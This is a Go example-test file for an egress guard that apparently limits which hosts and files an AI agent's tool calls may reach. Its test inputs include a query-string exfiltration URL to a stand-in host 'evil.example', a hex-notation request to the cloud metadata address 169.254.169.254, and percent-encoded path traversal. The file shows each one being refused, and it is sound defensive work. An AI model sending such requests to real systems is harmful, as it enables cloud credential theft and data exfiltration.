package egress_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"

	"github.com/ztagent/ztagent/toolguard/egress"
)

// A guard grants each call the hosts its decision allows; here the grant is
// made by hand, as a test would. A request to a host outside it is refused
// before anything is sent, whatever notation names the host: 0xa9fea9fe is
// the cloud metadata address 169.254.169.254.
func ExampleTransport() {
	ctx, grant := egress.WithGrant(context.Background(), []string{"docs.example.com"}, false, nil)
	defer grant.End()
	client := &http.Client{Transport: egress.Transport(nil)}

	for _, target := range []string{"https://evil.example/?q=secrets", "http://0xa9fea9fe/latest/meta-data/"} {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
		if err != nil {
			fmt.Println(err)
			return
		}
		_, err = client.Do(req)
		fmt.Println(errors.Is(err, egress.ErrEgressDenied), err)
	}
	// Output:
	// true Get "https://evil.example/?q=secrets": toolguard: egress to evil.example refused: not granted to this call
	// true Get "http://0xa9fea9fe/latest/meta-data/": toolguard: egress to 169.254.169.254 refused: not granted to this call
}

// DialControl judges the address a socket is about to reach, after DNS: a
// cloud metadata endpoint is refused even under a grant that allows private
// addresses.
func ExampleDialControl() {
	ctx, grant := egress.WithGrant(context.Background(), []string{"docs.example.com"}, true, nil)
	defer grant.End()
	fmt.Println(egress.DialControl(ctx, "tcp", "10.0.0.7:443", nil))
	fmt.Println(egress.DialControl(ctx, "tcp", "169.254.169.254:80", nil))
	// Output:
	// <nil>
	// toolguard: egress to 169.254.169.254 refused: cloud metadata (AWS, GCP, Azure, OpenStack)
}

// A call may open the paths its decision authorized, resolved under their
// root, and what lies below them; nothing else, and nothing once the call
// has returned.
func ExampleReadFile() {
	root, err := os.MkdirTemp("", "egress-example")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer os.RemoveAll(root)
	_ = os.Mkdir(filepath.Join(root, "notes"), 0o755)
	_ = os.WriteFile(filepath.Join(root, "notes", "a.txt"), []byte("ok"), 0o600)
	_ = os.WriteFile(filepath.Join(root, "secret"), []byte("secret"), 0o600)

	notes, err := egress.ResolvePath(root, "notes") // as the guard does for a PathArg
	if err != nil {
		fmt.Println(err)
		return
	}
	ctx, grant := egress.WithGrant(context.Background(), nil, false, []egress.File{notes})
	b, err := egress.ReadFile(ctx, "notes/a.txt")
	fmt.Printf("%q %v\n", b, err)
	_, err = egress.ReadFile(ctx, "secret")
	fmt.Println(errors.Is(err, egress.ErrEgressDenied))
	grant.End()
	_, err = egress.ReadFile(ctx, "notes/a.txt")
	fmt.Println(errors.Is(err, egress.ErrEgressDenied))
	// Output:
	// "ok" <nil>
	// true
	// true
}

// The policy and the checks compare one spelling of every URL: IPv4 in any
// notation is its dotted quad, names are lower-case punycode, the path is
// cleaned; what servers could read two ways is refused.
func ExampleCanonicalURL() {
	for _, raw := range []string{
		"HTTP://0x7f.1/a/../b",
		"https://Bücher.Example./docs",
		"https://example.com/public%2F..%2Fadmin",
		"https://user@example.com/",
	} {
		u, err := egress.CanonicalURL(raw)
		if err != nil {
			fmt.Println("refused:", err)
			continue
		}
		fmt.Println(u)
	}
	// Output:
	// http://127.0.0.1:80/b
	// https://xn--bcher-kva.example:443/docs
	// refused: URL path percent-encodes '/', '\' or '.'
	// refused: URL carries userinfo
}
